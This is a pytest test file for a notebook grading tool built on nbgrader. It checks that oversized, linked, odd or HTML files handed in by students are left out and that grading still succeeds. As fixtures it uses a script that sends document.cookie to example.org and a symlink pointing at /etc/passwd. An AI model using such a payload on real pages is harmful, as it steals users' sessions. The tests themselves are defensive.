"""What students hand in beside their notebooks: bounded before it is copied, no page of theirs is shown, and points count whatever lies there."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from helpers.courses import make_course as make_plain_course
from helpers.courses import recorded
from nbjudge._course.course import Course
from nbjudge._course.grading import grade_class
from nbjudge._course.outcomes import Outcome, Status
from nbjudge._nbgrader.student_files import MOST_FILES, FileLimits, is_picture, look, page_in
from nbjudge.testing.small_course import ANSWERS, ASSIGNMENT, make, run

SMALL = FileLimits(file=1000, total=2500)
PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 100
HTML = "<script>fetch('https://example.org/' + document.cookie)</script>"
GB = 1_000_000_000


def sparse(path: Path, size: int = GB) -> Path:
    """A file that is large and takes no room."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as file:
        file.truncate(size)
    return path


def told(folder: Path, limits: FileLimits = SMALL, **about: object) -> str:
    return "\n".join(look(folder, limits, **about).left_out.told())


def test_files_within_their_bounds_go_on_and_nothing_is_said(tmp_path: Path) -> None:
    (tmp_path / "data" / "empty").mkdir(parents=True)
    for name in ("a.csv", "data/b.bin", ".hidden", "timestamp.txt"):
        (tmp_path / name).write_bytes(b"0" * 500)
    (tmp_path / "sums.ipynb").write_text("{}")
    found = look(tmp_path, SMALL)
    assert sorted(found.files) == [".hidden", "a.csv", "data/b.bin", "timestamp.txt"]
    assert found.folders == ["data", "data/empty"]
    assert found.is_whole and not found.left_out.told()


def test_sizes_are_those_that_a_copy_would_have(tmp_path: Path) -> None:
    sparse(tmp_path / "large.bin")
    for name in "abc":
        sparse(tmp_path / f"{name}.bin", 900)
    os.link(tmp_path / "a.bin", tmp_path / "again.bin")
    found = look(tmp_path, SMALL)
    assert found.files == ["a.bin", "again.bin"] and not found.is_whole
    assert found.left_out.told() == [
        "`b.bin` (0.9 kB), `c.bin` (0.9 kB) are left out: all files of a submission together may have 2.5 kB. "
        "Next: ask for less, or raise c.CourseDirectory.max_dir_size",
        "`large.bin` (1,000 MB) is left out: one file may have 1.0 kB. Next: ask for a smaller one, or raise c.CourseDirectory.max_file_size",
    ]


def test_the_notebook_and_the_date_go_before_all_others(tmp_path: Path) -> None:
    for number in range(30):
        sparse(tmp_path / f"{number}.bin", 100)
    sparse(tmp_path / "sums.ipynb", 900)
    sparse(tmp_path / "timestamp.txt", 900)
    assert {"sums.ipynb", "timestamp.txt"} < set(look(tmp_path, SMALL, is_hand_in=True).files)


def test_many_files_are_not_even_looked_at(tmp_path: Path) -> None:
    limits = FileLimits(1000, 10**9, count=50)
    for number in range(200):
        (tmp_path / f"{number:03}.csv").touch()
    (tmp_path / "timestamp.txt").touch()
    (tmp_path / "sums.ipynb").touch()
    found = look(tmp_path, limits, is_hand_in=True)
    assert len(found.files) == 50 and {"sums.ipynb", "timestamp.txt"} < set(found.files)
    assert f"a submission may have {MOST_FILES:,} files and folders" in told(tmp_path, limits)


@pytest.mark.parametrize("path", ["/".join("abcdefghijklmnopqrstuvwxyz") + "/x", "/".join(["f" * 200] * 6) + "/x"], ids=["deep", "long"])
def test_what_lies_too_deep_is_left_out(tmp_path: Path, path: str) -> None:
    (tmp_path / path).parent.mkdir(parents=True)
    (tmp_path / path).touch()
    (tmp_path / "a.csv").touch()
    assert look(tmp_path, SMALL).files == ["a.csv"] and "a file may lie in 20 folders" in told(tmp_path)


def link(path: Path) -> None:
    path.symlink_to("/etc/passwd")


def listening(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as one, pytest.MonkeyPatch.context() as patch:
        patch.chdir(path.parent)  # a socket's path is short
        one.bind(path.name)


ODD: dict[str, tuple[Callable[[Path], object], str]] = {
    "link": (link, "no link is followed"),
    "loop": (lambda path: path.symlink_to(path.parent), "no link is followed"),
    "pipe": (os.mkfifo, "no plain file"),
    "socket": (listening, "no plain file"),
}


@pytest.mark.parametrize("kind", ODD)
def test_what_is_no_plain_file_is_left_out(tmp_path: Path, kind: str) -> None:
    (tmp_path / "a.csv").touch()
    ODD[kind][0](tmp_path / "odd")
    found = look(tmp_path, SMALL)
    assert found.files == ["a.csv"] and ODD[kind][1] in told(tmp_path)
    assert bool(found.links) == (kind in ("link", "loop"))


def test_nothing_displaces_the_instructors_files(tmp_path: Path) -> None:
    """What lies in the way of them, and of what students get back with them."""
    (tmp_path / "data.csv").mkdir()
    (tmp_path / "data.csv" / "x").touch()
    (tmp_path / "pictures").touch()
    (tmp_path / "help.html").write_text(HTML)
    sparse(tmp_path / "table.csv")
    found = look(tmp_path, SMALL, taken={"data.csv", "pictures/plan.svg", "help.html", "table.csv"})
    assert (found.files, found.folders, sorted(found.replaced)) == ([], [], ["help.html", "table.csv"])
    assert found.left_out.told() == [
        "`data.csv`, `pictures` are left out: the assignment or nbgrader has a file or a folder of its own there. "
        "Next: ask the student to rename it, if it matters"
    ]


NAMED = [
    "x.html", "x.HTM", "page.HTML", "index.html", "x.xhtml", "x.svg", "x.SvGz", "x.xml", "x.mhtml", "x.mht", "x.html.", "x.html ", "x.htm . .",
    "a/b/x.html", "sums.html/a.png", "sums_files/x.shtml", "x.xsl", "x.rdf", "x.xspf", "data:text,x.html", "x\n.html", "x.html\n", "\udcff.html",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMED)
def test_a_page_is_known_by_its_name(name: str) -> None:
    assert page_in(name) in (name, "sums.html")


@pytest.mark.parametrize(
    "name", ["x.csv", "x.txt", "x.docx", "x.odt", "x.xlsx", "x.png", "x.js", "x.json", "html", "xml.csv", "html.d/x.py", "x.pdf"]
)
def test_what_no_browser_takes_for_a_page_is_none(tmp_path: Path, name: str) -> None:
    (tmp_path / "x").write_text("<html>")
    assert page_in(name) == "" and page_in(name, None if name == "html" else tmp_path / "x") == ""


@pytest.mark.parametrize(
    "content",
    [
        HTML.encode(),
        b"\xef\xbb\xbf \n<!DOCTYPE html>",
        HTML.encode("utf-16"),
        HTML.encode("utf-16-be"),
        b'\n<?xml version="1.0"?>',
        b"\0<!-- --><p>",
    ],
)
def test_a_page_without_an_ending_is_known_by_how_it_begins(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "README").write_bytes(content)
    assert page_in("README", tmp_path / "README") == "README"
    (tmp_path / "README").write_bytes(b"a < b")
    assert page_in("README", tmp_path / "README") == ""


def test_a_picture_is_one_by_its_name_and_by_how_it_begins(tmp_path: Path) -> None:
    for name, content in {"a.png": PNG, "b.png": HTML.encode(), "c.html": PNG, "d.JPG": b"\xff\xd8\xff", "e.svg": b"<svg/>"}.items():
        (tmp_path / name).write_bytes(content)
    (tmp_path / "f.png").symlink_to(tmp_path / "a.png")
    assert [path.name for path in sorted(tmp_path.iterdir()) if is_picture(path)] == ["a.png", "d.JPG"]


# A class, each with something beside the notebook.

READS = "def double(x):\n    return int(open('mine/factor.txt').read()) * len(open('note.html').read()) * x"  # 2 and one letter

CHECKS = {  # what each one's cells find, or do not
    "sparse": "not os.path.exists('data.bin')",
    "hidden": "not os.path.exists('.cache/x')",
    "together": "len(os.listdir()) < 10",
    "given": "open('table.csv').read() == '1,2'",
    "displaces": "open('table.csv').read() == '1,2'",
    "in_the_way": "os.path.isfile('pictures/plan.svg')",
    "nameless": "os.path.isfile('README')",
}


def answer(name: str) -> str:
    if name == "honest":
        return READS
    return f"import os\ndef double(x):\n    return 2 * x if {CHECKS[name]} else 0" if name in CHECKS else ANSWERS["ada"]


def page(name: str, make: Callable[[Path], object] = lambda path: path.write_text(HTML)) -> Callable[[Path], object]:
    def put(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        make(folder / name)

    return put


def a_folder(path: Path) -> None:
    path.mkdir()
    (path / "a.png").write_bytes(PNG)


def closed(path: Path) -> None:
    path.write_text(HTML)
    path.chmod(0)


def linked(path: Path) -> None:
    path.with_name("a.txt").write_text(HTML)
    os.link(path.with_name("a.txt"), path)


def honest(folder: Path) -> None:
    (folder / "mine").mkdir()
    (folder / "mine" / "factor.txt").write_text("2")
    (folder / "note.html").write_text("x")
    (folder / "plot.png").write_bytes(PNG)
    (folder / "data.bin").write_bytes(os.urandom(5_000_000))


def many(folder: Path) -> None:
    for number in range(MOST_FILES + 1):
        (folder / f"{number}.csv").touch()


BESIDE: dict[str, tuple[Callable[[Path], object], str]] = {
    "honest": (honest, "`note.html` is left out: what a student made as a page"),
    "nothing": (lambda folder: None, ""),
    "sparse": (lambda folder: sparse(folder / "data.bin"), "`data.bin` (1,000 MB) is left out: one file may have 100 MB"),
    "hidden": (lambda folder: sparse(folder / ".cache" / "x"), "`.cache/x` (1,000 MB)"),
    "ignored": (lambda folder: sparse(folder / ".ipynb_checkpoints" / "x.py"), "x.py` (1,000 MB)"),
    "given": (lambda folder: sparse(folder / "table.csv"), ""),
    "together": (lambda folder: [sparse(folder / f"{n}.bin", 90_000_000) for n in range(20)], "(90 MB) and 16 more are left out: all files"),
    "another": (lambda folder: sparse(folder / "other.ipynb"), ""),
    "many": (many, "what comes after those is not taken"),
    "folder": (page("sums.html", a_folder), "`sums.html` is left out: what a student made as a page"),
    "large_page": (lambda folder: sparse(folder / "sums.html"), "`sums.html` (1,000 MB)"),
    "file": (page("sums.html"), "`sums.html` is left out"),
    "capitals": (page("SUMS.HTML", a_folder), "`SUMS.HTML` is left out"),
    "link": (page("sums.html", link), "`sums.html` is left out"),
    "pipe": (page("sums.html", os.mkfifo), "`sums.html` is left out"),
    "closed": (page("sums.html", closed), "`sums.html` is left out"),
    "linked": (page("sums.html", linked), "`sums.html` is left out"),
    "below": (page("a/b/x.svg"), "`a/b/x.svg` is left out"),
    "nameless": (page("README"), "`README` is left out"),
    "receipt": (page(".graded.json", a_folder), ""),
    "secret": (page("submission_secret.txt", a_folder), "`submission_secret.txt` is left out"),
    "displaces": (page("table.csv", a_folder), "`table.csv` is left out: the assignment or nbgrader has a file"),
    "in_the_way": (page("pictures", Path.touch), "`pictures` is left out: the assignment or nbgrader has a file or a folder"),
}


def make_class(root: Path) -> Path:
    make(root, answers={name: answer(name) for name in BESIDE})
    given = root / "source" / ASSIGNMENT
    (given / "pictures").mkdir()
    (given / "pictures" / "plan.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    (given / "help.html").write_text("<p>the instructor's</p>")
    (given / "table.csv").write_text("1,2")
    for name, (put, _) in BESIDE.items():
        folder = root / "submitted" / name / ASSIGNMENT
        if name != "displaces" and name != "given":
            shutil.copy(given / "table.csv", folder)  # students get it and hand it in again
        shutil.copy(given / "help.html", folder)
        put(folder)
    return root


def points(root: Path) -> dict[str, float]:
    with Gradebook(f"sqlite:///{root}/gradebook.db") as gradebook:
        return {one.student_id: one.score for one in gradebook.assignment_submissions(ASSIGNMENT)}


def everything(root: Path, kind: str, student: str) -> set[str]:
    folder = root / kind / student / ASSIGNMENT
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if not path.is_dir()} - {".graded.json"}


def assert_copied(root: Path) -> None:
    """Points for everybody; what is shown is the grader's, the instructor's, or a picture; and the disk holds little."""
    assert points(root) == dict.fromkeys(BESIDE, 4)
    given = {"help.html", "pictures/plan.svg", "table.csv"}
    for student in BESIDE:
        shown = everything(root, "feedback", student) - given
        assert shown - {"plot.png"} == {"sums.html"} and (root / "feedback" / student / ASSIGNMENT / "sums.html").is_file(), student
        assert HTML not in (root / "feedback" / student / ASSIGNMENT / "sums.html").read_text(encoding="utf-8")
        pages = [name for name in everything(root, "autograded", student) - given if page_in(name, root / "autograded" / student / ASSIGNMENT / name)]
        assert pages == [] and given <= everything(root, "autograded", student), student
        assert (root / "autograded" / student / ASSIGNMENT / "table.csv").read_text() == "1,2"
        copied = [path for kind in ("autograded", "feedback") for path in (root / kind / student).rglob("*") if path.is_file()]
        assert sum(path.stat().st_size for path in copied) < 110_000_000, student
    assert {"mine/factor.txt", "data.bin", "plot.png"} <= everything(root, "autograded", "honest")
    assert "plot.png" in everything(root, "feedback", "honest")


@pytest.mark.slow
def test_a_class_is_graded_whatever_lies_beside_its_notebooks(tmp_path: Path) -> None:
    root = make_class(tmp_path / "course")
    outcomes = {outcome.student: outcome for outcome in grade_class(Course(root))}
    assert {name: (outcome.status, outcome.why) for name, outcome in outcomes.items()} == dict.fromkeys(BESIDE, (Status.GRADED, ""))
    for name, (_, words) in BESIDE.items():
        said = "\n".join(outcomes[name].notes)
        assert words in said and bool(words) == bool(said), (name, said)
    assert_copied(root)
    again = {outcome.student: outcome for outcome in grade_class(Course(root))}
    assert {outcome.status for outcome in again.values()} == {Status.GRADED_BEFORE}
    assert {name: outcome.notes for name, outcome in again.items()} == {name: outcome.notes for name, outcome in outcomes.items()}


@pytest.mark.slow
def test_nbgraders_own_commands_copy_no_more(tmp_path: Path) -> None:
    root = make_class(tmp_path / "course")
    run(root, "nbgrader", "generate_assignment", ASSIGNMENT)
    done = run(root, "nbgrader", "autograde", ASSIGNMENT)
    for name, (_, words) in BESIDE.items():
        assert words in done.stderr, name
    run(root, "nbgrader", "generate_feedback", ASSIGNMENT)
    assert_copied(root)


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["folder", "pipe", "sparse", "link"])
def test_a_date_that_is_no_small_file_holds_up_nobody(tmp_path: Path, kind: str) -> None:
    root = make_plain_course(tmp_path / "course", students=2, first_cell="import math")
    put = {"folder": a_folder, "pipe": os.mkfifo, "sparse": sparse, "link": link}[kind]
    put(root / "submitted" / "s0" / "first" / "timestamp.txt")
    outcomes: dict[str, Outcome] = {outcome.student: outcome for outcome in grade_class(Course(root))}
    assert (outcomes["s0"].status, outcomes["s1"].status) == (Status.NOT_GRADED, Status.GRADED)
    assert "timestamp.txt is not a date" in outcomes["s0"].why or (kind == "link" and "symbolic link" in outcomes["s0"].why)
    assert recorded(root) == {"s1": 2}
    subprocess.run(["rm", "-r", root / "autograded"], check=True)
    done = run(root, "nbgrader", "autograde", "first", check=False)
    assert done.returncode == 1 and recorded(root)["s1"] == 2
    assert "timestamp.txt is not a date" in done.stderr
